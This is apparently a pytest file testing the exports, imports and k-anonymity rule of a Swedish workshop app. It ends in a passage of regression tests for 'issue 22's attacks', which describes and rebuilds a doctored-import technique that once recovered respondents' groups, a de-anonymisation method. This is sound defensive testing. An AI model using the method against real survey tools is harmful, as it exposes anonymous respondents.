"""Export and import against a real server, on SQLite and PostgreSQL: what the group keeps.

The workshop below is played through real sockets; every figure the tests expect is
computed here from the answers the test itself sent (`Truth`, with the k rule of
docs/insight.md worked out by hand), never taken from another export, so a wrong table
cell in any format fails a test. The answers an export seals are read back with the
server's own key (from its database) and compared with the answers sent.

The attacks of issue 22 on exports and imports each have a test of their own: the import
oracle, the subset matching, the facilitator's import as an oracle for withheld figures,
and an import that releases a change the k rule still holds back. Every file in
tests/export_corpus/ (exports of every version, as they were written) must keep importing.
"""

from __future__ import annotations

import asyncio
import base64
import csv
import hashlib
import io
import itertools
import json
import os
import re
import shutil
import statistics
import subprocess
import zlib
from collections import Counter
from collections.abc import AsyncIterator, Iterator, Sequence
from contextlib import ExitStack, asynccontextmanager, contextmanager
from dataclasses import dataclass, field
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import httpx
import pytest
from pypdf import PdfReader
from sqlalchemy import text

from app import export_answers
from app.aggregates import UNKNOWN
from app.client import RoomClient
from app.db import make_engine
from app.export_versions import OLDEST_READ, SCHEMA_VERSION
from app.sealing import Sealer
from app.snapshot import BoardExport
from app.templates import builtin_templates
from app.tokens import hash_token
from tests.conftest import MakeClient, NewRoom
from tests.servers import IN_CI, ServerProcess, fresh_postgres_database

ROOT = Path(__file__).resolve().parent.parent
CORPUS = Path(__file__).parent / "export_corpus"
# Every file of the corpus as it was written, never changed: a new version adds a file (and
# its line here); it does not rewrite an old one.
CORPUS_SHA256 = {
    "v2-grades-groups-round2.json": "7572dea33aa1e8a4806560a6bb93cda2cf9296e77c72e296ffb60ce1e7e1063e",
    "v3-grades-groups-round2.json": "232e884e0560cc4abc5fa9930727ad5b8335208a3f36ac8c260323a90e75718a",
    "v4-grades-groups-round2-votes.json": "7d5067f5c56721aaac51851e90c8336ccb7f7946e3d8cbc4759beb27da1fde64",
}
SCHEMAS = ROOT / "app" / "export_schemas"
# The purpose a version-2 export sealed each respondent's group for (app/snapshot.py of
# version 2): every v2 file this deployment wrote carries seals of this kind.
V2_GROUP_SEAL = "samskapa-export-group"

SWEDISH_LEFT_POLES = [
    "Vi erbjuder en produkt",
    "Vi ser användaren som objekt",
    "Vi har fokus på produktion",
    "Vi gör saker rätt",
    "Vi har en linjär logik i vår verksamhet",
    "Vi har stort expertfokus",
    "Vi utvecklar vår verksamhet inom enheter (silos)",
    "Vi vill inte misslyckas",
    "Vi vill helst reducera variation",
    "Våra rutiner beslutas högt i hierarkin",
]
U = "unknown"
Answer = int | str
Key = tuple[int, str, str]  # (round, kind, statement id)
# The answers of seven people P0..P6, by (round, kind, statement). None: no answer.
ANSWERS: dict[Key, list[Answer | None]] = {
    (1, "today", "s1"): [3, 4, 5, 6, 7, 8, 9],
    (1, "today", "s2"): [2, 2, 3, 9, 8, U, 1],
    (1, "today", "s3"): [5, 5, 6, 6, 7, 7, 8],
    (1, "desired", "s1"): [8, 8, 9, 9, 10, 7, 6],
    (1, "desired", "s2"): [6, 6, 7, 7, 8, 8, 9],
    # Only P0 says where s3 should be: one answer, which no figure may show.
    (1, "desired", "s3"): [9, None, None, None, None, None, None],
    (2, "today", "s1"): [4, 4, 6, 6, 8, 8, 9],
    # Chefer give three grades; the two others give two, and two say "Vet ej": the room
    # minus Chefer would be two grades, so Chefer's figures are held back here.
    (2, "today", "s2"): [3, 3, 3, 8, 8, U, U],
    (2, "today", "s3"): [6, 6, 6, 7, 7, 8, 8],
    (2, "desired", "s1"): [9, 9, 9, 9, 9, 8, 7],
}
NAMES = {0: "Åsa", 3: "Bo"}
GROUP_OF = {0: "chefer", 1: "chefer", 2: "chefer", 3: "staff", 4: "staff"}  # P5, P6: none
GROUPS = [{"id": "chefer", "name": "Chefer"}, {"id": "staff", "name": "Medarbetare"}]
K = 3
KEYS: list[Key] = [(r, kind, f"s{n}") for r in (1, 2) for kind in ("today", "desired") for n in range(1, 11)]
FIGURE_FIELDS = ("n", "unknown", "mean", "median", "sd", "histogram", "withheld")


def figures_of(values: Sequence[Answer]) -> dict[str, Any]:
    """The figures of some answers, by hand: grades only, "Vet ej" counted apart."""
    grades = [v for v in values if isinstance(v, int)]
    return {
        "n": len(grades),
        "unknown": sum(v == U for v in values),
        "mean": statistics.fmean(grades) if grades else None,
        "median": statistics.median(grades) if grades else None,
        "sd": statistics.pstdev(grades) if grades else None,
        "histogram": [grades.count(value) for value in range(1, 11)],
        "withheld": None,
    }


def held_back(answers: int) -> dict[str, Any]:
    return {**figures_of([]), "withheld": answers}


@dataclass
class Truth:
    """The expected figures, from the answers alone, under the k rule of docs/insight.md:
    the room's figures of a quantity once k gave a grade; a group's once k of it did and
    the grades outside the groups shown (largest first) are none or at least k."""

    answers: dict[Key, list[Answer | None]] = field(default_factory=lambda: ANSWERS)
    groups: dict[str, list[int]] = field(
        default_factory=lambda: {g["id"]: [i for i, of in GROUP_OF.items() if of == g["id"]] for g in GROUPS}
    )
    people: int = 7
    k: int = K

    def values(self, key: Key, people: Sequence[int] | None = None) -> list[Answer]:
        given = self.answers.get(key, [None] * self.people)
        chosen = range(self.people) if people is None else people
        return [value for i in chosen if (value := given[i]) is not None]

    def grades(self, key: Key, people: Sequence[int] | None = None) -> list[int]:
        return [v for v in self.values(key, people) if isinstance(v, int)]

    def mean(self, key: Key, people: Sequence[int] | None = None) -> float | None:
        grades = self.grades(key, people)
        return statistics.fmean(grades) if grades else None

    def shown_groups(self, key: Key) -> set[str]:
        rest = len(self.grades(key))
        if rest < self.k:
            return set()
        shown = set()
        by_size = sorted(self.groups, key=lambda g: (-len(self.grades(key, self.groups[g])), g))
        for group in by_size:
            grades = len(self.grades(key, self.groups[group]))
            if grades >= self.k and (rest - grades == 0 or rest - grades >= self.k):
                shown.add(group)
                rest -= grades
        return shown

    def expected(self, key: Key, group: str | None = None) -> dict[str, Any]:
        """What an export must hold for `key`, of the room or of one group."""
        values = self.values(key, None if group is None else self.groups[group])
        shown = len(self.grades(key)) >= self.k if group is None else group in self.shown_groups(key)
        return figures_of(values) if shown or not values else held_back(len(values))

    def withheld(self, key: Key, group: str | None = None) -> bool:
        return self.expected(key, group)["withheld"] is not None

    def gap(self, round_number: int, statement: str) -> float | None:
        today, desired = self.mean((round_number, "today", statement)), self.mean((round_number, "desired", statement))
        return None if today is None or desired is None else desired - today


TRUTH = Truth()
CHEFER = TRUTH.groups["chefer"]


def assert_figures(got: dict[str, Any], expected: dict[str, Any], where: object) -> None:
    for name in FIGURE_FIELDS:
        if isinstance(expected[name], float):
            assert got[name] == pytest.approx(expected[name]), (where, name, got)
        else:
            assert got[name] == expected[name], (where, name, got)


def swedish(value: float | None, digits: int = 1) -> str:
    return "–" if value is None else f"{value:.{digits}f}".replace(".", ",")


def stored(value: Answer) -> int:
    """An answer as a seal holds it: the grade, or UNKNOWN for "Vet ej"."""
    return UNKNOWN if value == U else int(value)


SealedPeople = Counter[tuple[str | None, frozenset[tuple[int, str, str, int]]]]


def sent_people(truth: Truth = TRUTH, group_of: dict[int, str] | None = None) -> SealedPeople:
    """Each person's answers (and group) as the test sent them."""
    group_of = GROUP_OF if group_of is None else group_of
    people: SealedPeople = Counter()
    for person in range(truth.people):
        given = frozenset(
            (r, kind, s, stored(value))
            for (r, kind, s), values in truth.answers.items()
            if (value := values[person]) is not None
        )
        people[(group_of.get(person), given)] += 1
    return people


def as_people(respondents: Sequence[export_answers.Respondent]) -> SealedPeople:
    return Counter(
        (person.group, frozenset((a.round, a.kind, a.statement_id, a.value) for a in person.answers))
        for person in respondents
    )


# ---------------------------------------------------------------- the workshop


async def workshop(new_room: NewRoom, clients: MakeClient) -> tuple[dict[str, Any], list[RoomClient]]:
    """Seven people answer two rounds, today and desired, in two groups; one more joins and
    does nothing; Cecilia only writes a note. Notes in order, votes, a linked note."""
    room = await new_room(title="Äldreomsorgen Åmål")
    facilitator = clients(room["room_id"], room["facilitator_token"])
    await facilitator.connect()
    await facilitator.command("update_room", desired_enabled=True)
    await facilitator.command("set_groups", groups=GROUPS)
    people = [clients(room["room_id"]) for _ in range(7)]
    for index, person in enumerate(people):
        await person.connect(name=NAMES.get(index))
        if index in GROUP_OF:
            await person.command("set_profile", group=GROUP_OF[index])
    silent, cecilia = clients(room["room_id"]), clients(room["room_id"])
    await silent.connect()
    await cecilia.connect(name="Cecilia")

    async def answer(round_number: int) -> dict[str, Any]:
        ack: dict[str, Any] = {}
        for (r, kind, statement), values in ANSWERS.items():
            for person, value in zip(people, values, strict=True):
                if r == round_number and value is not None:
                    ack = await person.command("set_score", statement_id=statement, value=value, kind=kind)
        return ack

    await answer(1)
    await facilitator.command("start_round")
    ack = await answer(2)
    await people[0].command("add_note", area_id="thoughts", text="Värdet uppstår hos brukaren")
    await people[3].command("add_note", area_id="now", text="Bjud in brukare; till | planeringen *nu*")
    await people[5].command("add_note", area_id="now", text="Prova ett nytt mötesformat", statement_id="s3")
    await cecilia.command("add_note", area_id="needed", text="Handledning för nya medarbetare")
    await facilitator.command("add_note", area_id="needed", text="Tid för reflektion")
    moved = next(n for n in people[5].notes.values() if n["text"] == "Prova ett nytt mötesformat")
    await people[5].command("move_note", note_id=moved["id"], area_id="now", index=0)
    liked = next(n for n in people[0].notes.values() if n["area_id"] == "thoughts")
    for person in (people[1], people[2], people[4]):
        await person.command("vote_note", note_id=liked["id"], voted=True)
    await facilitator.command("set_phase", phase="document")
    last = await facilitator.command("set_results_visible", visible=True)
    await facilitator.wait_until(lambda: (facilitator.spectrum or {}).get("seq", 0) >= ack["seq"])
    await facilitator.wait_until(lambda: (facilitator.last_seq or 0) >= last["seq"])
    return room, people


async def export(http: httpx.AsyncClient, room: dict[str, Any], fmt: str) -> httpx.Response:
    response = await http.get(
        f"/api/rooms/{room['room_id']}/export",
        params={"format": fmt},
        headers={"Authorization": f"Bearer {room['facilitator_token']}"},
    )
    assert response.status_code == 200, response.text
    return response


async def import_file(http: httpx.AsyncClient, document: dict[str, Any], token: str | None = None) -> httpx.Response:
    headers = {"Authorization": f"Bearer {token}"} if token else {}
    return await http.post("/api/rooms/import", content=json.dumps(document), headers=headers, timeout=60)


def server_sealer(server: ServerProcess) -> Sealer:
    """The server's own key (from its database), to read the sealed answers in a test."""
    engine = make_engine(server.env["SAMSKAPA_DATABASE_URL"])
    try:
        with engine.connect() as connection:
            value = connection.execute(text("SELECT value FROM serverkey WHERE name = 'export-groups'")).scalar_one()
    finally:
        engine.dispose()
    return Sealer(base64.b64decode(value))


def opened(sealer: Sealer, document: dict[str, Any], token: str) -> list[export_answers.Respondent] | None:
    """The sealed answers of `document`, opened as an import with `token` would open them."""
    return export_answers.open_answers(
        sealer,
        document["answers_sealed"],
        hash_token(token),
        [statement["id"] for statement in document["template"]["statements"]],
        [group["id"] for group in document["room"]["groups"]],
    )


def room_figures(document: dict[str, Any]) -> dict[Key, dict[str, Any]]:
    return {(a["round"], a["kind"], a["statement_id"]): a for a in document["aggregates"]}


def without_pseudonyms(notes: list[dict[str, Any]]) -> list[dict[str, Any]]:
    """Notes with ids and times dropped and each author and voter pseudonym replaced by
    what it stands for: the notes that person wrote, or voted for. Two exports are then
    equal when the same people wrote and voted for the same notes, whatever the pseudonyms."""
    wrote: dict[str, list[int]] = {}
    voted: dict[str, list[int]] = {}
    for index, note in enumerate(notes):
        wrote.setdefault(note["author"], []).append(index)
        for voter in note["voters"]:
            voted.setdefault(voter, []).append(index)

    def person(pseudonym: str, of: dict[str, list[int]], role: str) -> str:
        return pseudonym if pseudonym == "facilitator" else f"{role} of notes {of[pseudonym]}"

    result = []
    for index, note in enumerate(notes):
        copy = {k: v for k, v in note.items() if k not in {"id", "created_at", "updated_at"}}
        copy.update(
            id=f"note-{index}",
            author=person(note["author"], wrote, "author"),
            voters=sorted(person(voter, voted, "voter") for voter in note["voters"]),
        )
        result.append(copy)
    return result


def normalised(document: dict[str, Any]) -> dict[str, Any]:
    """An export with ids, seals, pseudonyms and times replaced by what they stand for (the
    sealed answers are compared apart, opened)."""
    result: dict[str, Any] = json.loads(json.dumps(document))
    result.pop("exported_at")
    result.pop("answers_sealed")
    result["room"].pop("created_at")
    result["notes"] = without_pseudonyms(result["notes"])
    return result


def strings_in(value: object) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for key, item in value.items():
            yield key
            yield from strings_in(item)
    elif isinstance(value, list):
        for item in value:
            yield from strings_in(item)


@asynccontextmanager
async def console(clients: MakeClient, room: dict[str, Any]) -> AsyncIterator[RoomClient]:
    """The room's facilitator console over a real socket."""
    facilitator = clients(room["room_id"], room["facilitator_token"])
    welcome = await facilitator.connect()
    assert welcome["you"]["role"] == "facilitator"
    yield facilitator


@contextmanager
def another_deployment(database_url: str, data_dir: Path) -> Iterator[ServerProcess]:
    """Another server with its own database (and so its own key), of the same kind."""
    with ExitStack() as stack:
        if database_url.startswith("postgresql"):
            url = stack.enter_context(fresh_postgres_database())
        else:
            url = f"sqlite:///{data_dir / 'elsewhere.db'}"
        server = ServerProcess(url, data_dir)
        stack.callback(server.stop)
        yield server


@asynccontextmanager
async def talking_to(server: ServerProcess) -> AsyncIterator[tuple[httpx.AsyncClient, NewRoom, MakeClient]]:
    """`http`, `new_room` and `clients` as the fixtures give them, for another server."""
    made: list[RoomClient] = []

    def make(room_id: str, token: str | None = None) -> RoomClient:
        client = RoomClient(server.base_url, room_id, token)
        made.append(client)
        return client

    async with httpx.AsyncClient(base_url=server.base_url, timeout=10) as http:

        async def create(**body: Any) -> dict[str, Any]:
            body.setdefault("title", "Vårdenheten Solsidan")
            response = await http.post("/api/rooms", json=body)
            assert response.status_code == 201, response.text
            return response.json()  # type: ignore[no-any-return]

        try:
            yield http, create, make
        finally:
            for client in made:
                await client.close()


# ---------------------------------------------------------------- the reports' tables


class Tables(HTMLParser):
    """The HTML report's tables, as lists of rows of cell texts."""

    def __init__(self, document: str) -> None:
        super().__init__()
        self.tables: list[list[list[str]]] = []
        self._cell: list[str] | None = None
        self.feed(document)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag == "table":
            self.tables.append([])
        elif tag == "tr" and self.tables:
            self.tables[-1].append([])
        elif tag in {"td", "th"}:
            self._cell = []

    def handle_endtag(self, tag: str) -> None:
        if tag in {"td", "th"} and self._cell is not None:
            self.tables[-1][-1].append("".join(self._cell).strip())
            self._cell = None

    def handle_data(self, data: str) -> None:
        if self._cell is not None:
            self._cell.append(data)


def markdown_table(markdown: str, heading: str) -> list[list[str]]:
    """The rows (header first, no rule line) of the table under `heading`."""
    lines = markdown.split(heading, 1)[1].strip().splitlines()
    rows = []
    for line in lines:
        if not line.startswith("|"):
            break
        cells = [re.sub(r"\\(.)", r"\1", cell.strip()) for cell in re.split(r"(?<!\\)\|", line.strip())[1:-1]]
        if not set("".join(cells)) <= set("-: "):
            rows.append(cells)
    return rows


def expected_round_cells(statement: str) -> list[str]:
    """Round 1 and 2, each today, desired and gap, as the report writes them."""
    cells = []
    for round_number in (1, 2):
        today, desired = (round_number, "today", statement), (round_number, "desired", statement)
        cells.append("*" if TRUTH.withheld(today) else swedish(TRUTH.mean(today)))
        cells.append("*" if TRUTH.withheld(desired) else swedish(TRUTH.mean(desired)))
        either = TRUTH.withheld(today) or TRUTH.withheld(desired)
        cells.append("*" if either else swedish(TRUTH.gap(round_number, statement)))
    return cells


def expected_desired_rows() -> list[list[str]]:
    rows = []
    for number, pole in enumerate(SWEDISH_LEFT_POLES, start=1):
        statement = f"s{number}"
        today, desired, gap = (
            TRUTH.mean((2, "today", statement)),
            TRUTH.mean((2, "desired", statement)),
            TRUTH.gap(2, statement),
        )
        rows.append(
            (-abs(gap) if gap is not None else 0, [str(number), pole, swedish(today), swedish(desired), swedish(gap)])
        )
    return [cells for _, cells in sorted(rows, key=lambda row: row[0])]


def expected_group_cell(statement: str) -> str:
    key = (2, "today", statement)
    return "*" if TRUTH.withheld(key, "chefer") else swedish(TRUTH.mean(key, CHEFER))


# ---------------------------------------------------------------- what an export holds


async def test_the_json_holds_every_figure_by_round_and_kind(
    http: httpx.AsyncClient, server: ServerProcess, new_room: NewRoom, clients: MakeClient
) -> None:
    room, _people = await workshop(new_room, clients)
    document = (await export(http, room, "json")).json()
    assert document["schema_version"] == SCHEMA_VERSION
    assert document["participants"] == 9 and document["respondents"] == 7 and document["voters"] == 7
    assert "scores" not in document and document["open_answers"] is None
    figures = room_figures(document)
    assert sorted(figures) == sorted(KEYS) and len(document["aggregates"]) == len(KEYS)
    for key, got in figures.items():
        assert_figures(got, TRUTH.expected(key), key)
    assert [key for key in KEYS if TRUTH.withheld(key)] == [(1, "desired", "s3")], "the scenario as built"
    means = [m for s in range(1, 11) if (m := TRUTH.mean((2, "today", f"s{s}"))) is not None]
    assert document["overall"] == pytest.approx(statistics.fmean(means))
    (group,) = document["group_figures"]
    assert group["group_id"] == "chefer" and group["voters"] == 3 and document["hidden_groups"] == 1
    assert sorted((a["round"], a["kind"], a["statement_id"]) for a in group["aggregates"]) == sorted(KEYS)
    for got in group["aggregates"]:
        key = (got["round"], got["kind"], got["statement_id"])
        assert_figures(got, TRUTH.expected(key, "chefer"), ("chefer", key))
    held = {(a["round"], a["kind"], a["statement_id"]) for a in group["aggregates"] if a["withheld"] is not None}
    assert held == {(1, "desired", "s3"), (2, "today", "s2")}, "the scenario as built"
    # The answers themselves are in the seal, with their groups: exactly those sent.
    sealed = opened(server_sealer(server), document, room["facilitator_token"])
    assert sealed is not None and as_people(sealed) == sent_people()


async def test_the_reports_tables_are_the_answers_figures(
    http: httpx.AsyncClient, new_room: NewRoom, clients: MakeClient
) -> None:
    """Every cell of the Markdown and HTML tables, against figures computed from the answers:
    this round's spectrum, every round's today/desired/gap, the desired table, the groups."""
    room, _people = await workshop(new_room, clients)
    markdown = (await export(http, room, "md")).text
    report = Tables((await export(http, room, "html")).text).tables

    spectrum = markdown_table(markdown, "10 = Tjänstelogisk styrning och utveckling")[1:]
    assert len(spectrum) == 10
    for number, row in enumerate(spectrum, start=1):
        figures = TRUTH.expected((2, "today", f"s{number}"))
        assert row[:2] == [str(number), SWEDISH_LEFT_POLES[number - 1]]
        assert row[3:7] == [
            str(figures["n"]),
            swedish(figures["mean"]),
            swedish(figures["median"]),
            swedish(figures["sd"]),
        ]

    rounds = markdown_table(markdown, "### Omgångar: medelvärden")
    html_rounds = next(table for table in report if table[0][2] == "Omgång 1: Idag")
    for table in (rounds, html_rounds):
        assert table[0][2:] == [
            f"Omgång {r}: {kind}" for r in (1, 2) for kind in ("Idag", "Önskat", "Gap (önskat − idag)")
        ]
        for number, row in enumerate(table[1:], start=1):
            assert row == [str(number), SWEDISH_LEFT_POLES[number - 1], *expected_round_cells(f"s{number}")], row

    desired = markdown_table(markdown, "### Idag och önskat")
    html_desired = next(
        table for table in report if table[0][1:] == ["Vänster pol (1)", "Idag", "Önskat", "Gap (önskat − idag)"]
    )
    for table in (desired, html_desired):
        assert table[1:] == expected_desired_rows()

    groups = markdown_table(markdown, "### Per grupp: medelvärden")
    html_groups = next(table for table in report if table[0][2:] == ["Chefer (3)"])
    for table in (groups, html_groups):
        assert table[0] == ["#", "Vänster pol (1)", "Chefer (3)"]
        for number, row in enumerate(table[1:], start=1):
            assert row == [str(number), SWEDISH_LEFT_POLES[number - 1], expected_group_cell(f"s{number}")]
    assert groups[2][2] == "*", "Chefer's s2 this round: the rest of the room is two grades"
    assert "Visas inte: så få svar" in markdown and "1 grupp med färre än 3 svarande" in markdown


async def test_the_csv_has_every_figure_by_round_and_kind_and_no_answer(
    http: httpx.AsyncClient, new_room: NewRoom, clients: MakeClient
) -> None:
    room, _people = await workshop(new_room, clients)
    response = await export(http, room, "csv")
    assert response.content.startswith(b"\xef\xbb\xbf"), "UTF-8 with BOM, for Excel"
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert rows[0] == ["Siffror per omgång, slag och påstående"]
    header = rows[1]
    assert header[:9] == [
        "#",
        "Vänster pol (1)",
        "Höger pol (10)",
        "Omgång",
        "Avser",
        "Svar",
        "Medel",
        "Median",
        "Standardavvikelse",
    ]
    assert header[9:19] == [f"Antal {value}" for value in range(1, 11)]
    assert header[19:] == ["Vet ej", "Dolda svar", "Oenighet"]
    kinds = {"Idag": "today", "Önskat": "desired"}
    figure_rows = rows[2 : rows.index([])]
    assert len(figure_rows) == 40
    seen = set()
    for row in figure_rows:
        key = (int(row[3]), kinds[row[4]], f"s{row[0]}")
        seen.add(key)
        assert row[1] == SWEDISH_LEFT_POLES[int(row[0]) - 1]
        expected = TRUTH.expected(key)
        if expected["withheld"] is not None:
            assert row[5:20] == [""] * 15 and row[20] == str(expected["withheld"]), row
            continue
        assert row[5] == str(expected["n"]) and [int(c) for c in row[9:19]] == expected["histogram"], row
        for column, name in ((6, "mean"), (7, "median"), (8, "sd")):
            assert row[column] == ("" if expected[name] is None else swedish(expected[name], 2)), (row, name)
        assert row[19] == str(expected["unknown"]) and row[20] == "", row
    assert seen == set(KEYS)
    # Two sections and nothing else: no answer under any pseudonym (issue 22: beside the
    # groups' figures they gave the groups' members away).
    groups_at = rows.index(["Per grupp: medelvärden"])
    assert groups_at == 2 + 40 + 1
    assert rows[groups_at + 1][:4] == ["Grupp", "Omgång", "Avser", "#"]
    group_rows = rows[groups_at + 2 : -1]
    assert [row[0] for row in group_rows] == ["Chefer"] * 40
    for row in group_rows:
        key = (int(row[1]), kinds[row[2]], f"s{row[3]}")
        expected = TRUTH.expected(key, "chefer")
        if expected["withheld"] is not None:
            assert row[4:19] == [""] * 15 and row[19] == str(expected["withheld"]), row
        else:
            assert row[4] == str(expected["n"]) and [int(c) for c in row[8:18]] == expected["histogram"], row
            assert row[5] == ("" if expected["mean"] is None else swedish(expected["mean"], 2)), row
    assert rows[-1][0].startswith("1 grupp med färre än 3 svarande")
    assert not any(re.fullmatch(r"r\d+", cell) for row in rows for cell in row), "no respondent pseudonym"


async def test_no_export_ties_a_name_to_an_answer(
    http: httpx.AsyncClient, new_room: NewRoom, clients: MakeClient
) -> None:
    """Names are on the notes their authors signed, and nowhere else; no answer is readable
    in any export at all, so none can be tied to a name or a group."""
    room, _people = await workshop(new_room, clients)
    document = (await export(http, room, "json")).json()
    assert isinstance(document["respondents"], int) and isinstance(document["answers_sealed"], str)
    authors = {n["author"] for n in document["notes"]}
    voters = {v for n in document["notes"] for v in n["voters"]}
    assert all(re.fullmatch(r"a\d+|facilitator", a) for a in authors)
    assert all(re.fullmatch(r"v\d+|facilitator", v) for v in voters)
    readable = list(strings_in({**document, "answers_sealed": None}))
    assert not [s for s in readable if re.fullmatch(r"r\d+", s)], "no respondent pseudonym anywhere"
    signed = {n["author_name"] for n in document["notes"]} - {None}
    assert signed == {"Åsa", "Bo", "Cecilia"}
    serialised = json.dumps(document, ensure_ascii=False)
    for name in signed:
        assert serialised.count(f'"{name}"') == sum(n["author_name"] == name for n in document["notes"]), name
    csv_text = (await export(http, room, "csv")).content.decode("utf-8-sig")
    assert not any(name in csv_text for name in signed), "the CSV holds no names"
    markdown = (await export(http, room, "md")).text
    for line in markdown.splitlines():
        if any(re.search(rf"\b{name}\b", line) for name in signed):
            assert line.startswith("- "), f"a name outside the notes: {line}"
    report = (await export(http, room, "html")).text
    notes = re.findall(r"<li>.*?</li>", report)
    assert sum("Åsa" in item for item in notes) == 1 and sum("Cecilia" in item for item in notes) == 1
    outside = re.sub(r"<li>.*?</li>", "", report)
    for name in signed:
        assert not re.search(rf"\b{name}\b", outside), f"{name} is written outside the notes"
    for text_ in (markdown, report, csv_text):
        assert "Medarbetare" not in text_, "a group too small to show is not even named"


# ---------------------------------------------------------------- export, import, export


async def test_the_round_trip_keeps_everything_and_every_group(
    http: httpx.AsyncClient, server: ServerProcess, new_room: NewRoom, clients: MakeClient
) -> None:
    """Export, import with the room's facilitator token, export: equal but for ids, seals,
    pseudonyms and times, the groups and their figures included; the seals hold exactly the
    answers sent, each with its group, the hidden ones too."""
    room, _people = await workshop(new_room, clients)
    first = (await export(http, room, "json")).json()
    imported = await import_file(http, first, room["facilitator_token"])
    assert imported.status_code == 201, imported.text
    copy = imported.json()
    assert copy["room_id"] != room["room_id"] and copy["facilitator_token"] != room["facilitator_token"]
    assert (copy["restored"], copy["groups_not_restored"], copy["answers_not_restored"]) == ("answers", 0, 0)
    second = (await export(http, copy, "json")).json()
    assert normalised(second) == normalised(first)
    assert second["hidden_groups"] == 1 and [g["group_id"] for g in second["group_figures"]] == ["chefer"]
    sealer = server_sealer(server)
    in_first, in_second = (
        opened(sealer, first, room["facilitator_token"]),
        opened(sealer, second, copy["facilitator_token"]),
    )
    assert in_first is not None and in_second is not None
    assert as_people(in_first) == as_people(in_second) == sent_people()
    assert Counter(person.group for person in in_second) == Counter({"chefer": 3, "staff": 2, None: 2})
    with pytest.raises(export_answers.NotProven):
        opened(sealer, second, room["facilitator_token"])  # sealed for the new room, not the old
    assert first["answers_sealed"] != second["answers_sealed"]
    for fmt in ("md", "csv"):
        assert (await export(http, copy, fmt)).content == (await export(http, room, fmt)).content, fmt
    async with console(clients, copy) as facilitator:
        # The file's 7 respondents and 2 silent people answer in the new room without being
        # participants: nobody can join as them, and the console lists only who joins.
        assert facilitator.participants == {}
        assert [g["group_id"] for g in (facilitator.spectrum or {})["groups"]] == ["chefer"]
    assert second["participants"] == first["participants"] == 9


async def test_a_change_not_yet_released_stays_unreleased_through_the_round_trip(
    http: httpx.AsyncClient, new_room: NewRoom, clients: MakeClient
) -> None:
    """After the reveal, one person's changed answer is held back until k people have
    changed theirs (docs/insight.md): two exports around it show the same figures. The
    facilitator's export → import → export must not release it either, or the two files
    differ by exactly that one answer."""
    room, people = await workshop(new_room, clients)
    before = (await export(http, room, "json")).json()
    await people[6].command("set_score", statement_id="s1", value=1)  # P6: 9 -> 1, this round
    held = (await export(http, room, "json")).json()
    assert room_figures(held) == room_figures(before) and held["group_figures"] == before["group_figures"]
    imported = await import_file(http, held, room["facilitator_token"])
    assert imported.status_code == 201, imported.text
    assert imported.json()["restored"] == "answers"
    again = (await export(http, imported.json(), "json")).json()
    changed = {
        key: (figures["histogram"], room_figures(again)[key]["histogram"])
        for key, figures in room_figures(held).items()
        if figures != room_figures(again)[key]
    }
    assert not changed, f"the import released one person's change: {changed}"
    assert again["group_figures"] == held["group_figures"]


async def test_an_import_without_the_token_gets_the_figures_without_groups(
    http: httpx.AsyncClient, server: ServerProcess, new_room: NewRoom, clients: MakeClient
) -> None:
    """Whoever imports without proving they ran the room gets the whole room's shown figures
    back as anonymous answers, the notes, and no group; what the k rule held back is lost."""
    room, _people = await workshop(new_room, clients)
    first = (await export(http, room, "json")).json()
    imported = await import_file(http, first)
    assert imported.status_code == 201, imported.text
    copy = imported.json()
    lost = sum(len(TRUTH.values(key)) for key in KEYS if TRUTH.withheld(key))
    assert (copy["restored"], copy["groups_not_restored"], copy["answers_not_restored"]) == ("figures", 7, lost)
    second = (await export(http, copy, "json")).json()
    for key, got in room_figures(second).items():
        expected = TRUTH.expected(key)
        assert_figures(got, figures_of([]) if expected["withheld"] is not None else expected, key)
    assert second["overall"] == pytest.approx(first["overall"])
    assert second["group_figures"] == [] and second["hidden_groups"] == 0
    assert without_pseudonyms(second["notes"]) == without_pseudonyms(first["notes"])
    assert second["room"]["groups"] == GROUPS, "the groups are set up, but nobody is in one"
    rebuilt = opened(server_sealer(server), second, copy["facilitator_token"])
    assert rebuilt is not None and all(person.group is None for person in rebuilt)
    assert all(len({a.round for a in person.answers}) == 1 for person in rebuilt), "nobody spans two rounds"
    shown = Counter(
        (r, kind, s, stored(v))
        for (r, kind, s) in KEYS
        if not TRUTH.withheld((r, kind, s))
        for v in TRUTH.values((r, kind, s))
    )
    assert Counter((a.round, a.kind, a.statement_id, a.value) for p in rebuilt for a in p.answers) == shown
    async with console(clients, copy) as facilitator:
        assert not any(person["group"] for person in facilitator.participants.values())
        assert not (facilitator.spectrum or {})["groups"]


# ---------------------------------------------------------------- issue 22's attacks


def cut_to_one_respondent(document: dict[str, Any], answers: dict[Key, Answer]) -> dict[str, Any]:
    """`document` cut down to one respondent who gave `answers`, its figures made to agree."""
    cut: dict[str, Any] = json.loads(json.dumps(document))
    for aggregate in cut["aggregates"]:
        key = (aggregate["round"], aggregate["kind"], aggregate["statement_id"])
        aggregate.update(figures_of([answers[key]] if key in answers else []), insight=None)
    means = [a["mean"] for a in cut["aggregates"] if a["round"] == cut["room"]["round"] and a["kind"] == "today"]
    cut["overall"] = statistics.fmean([m for m in means if m is not None])
    cut.update(participants=1, respondents=1, voters=1, group_figures=[], hidden_groups=0, notes=[])
    return cut


async def test_the_import_oracle_reveals_no_group(
    http: httpx.AsyncClient, server: ServerProcess, new_room: NewRoom, clients: MakeClient
) -> None:
    """Issue 22, attack 1. Version 2 exported every answer readable under a respondent
    pseudonym, with the respondent's group sealed by this deployment's key, and the import
    opened every seal it could for anyone. An attacker with a JSON export (and no token) cut
    it down to one respondent, recomputed the figures from that respondent's answers, and
    posted it to /api/rooms/import: the new room's console showed that one participant in
    its group, beside all of their answers (6 of 6 groups recovered). Now a v3 export holds
    no answer to cut, its seal opens only with the room's facilitator token, and a v2 file
    imports without its groups: the attacker's new room shows no group."""
    room, _people = await workshop(new_room, clients)
    document = (await export(http, room, "json")).json()

    # The attack on a version-3 export: the answers are sealed, so the attacker can only
    # make up one respondent's answers and keep the seal.
    guess: dict[Key, Answer] = {key: 5 for key in KEYS if TRUTH.values(key)}
    cut = cut_to_one_respondent(document, guess)
    response = await import_file(http, cut)
    assert response.status_code in (201, 422), response.text
    if response.status_code == 201:
        assert response.json()["restored"] == "figures" and response.json()["groups_not_restored"] == 1
        async with console(clients, response.json()) as facilitator:
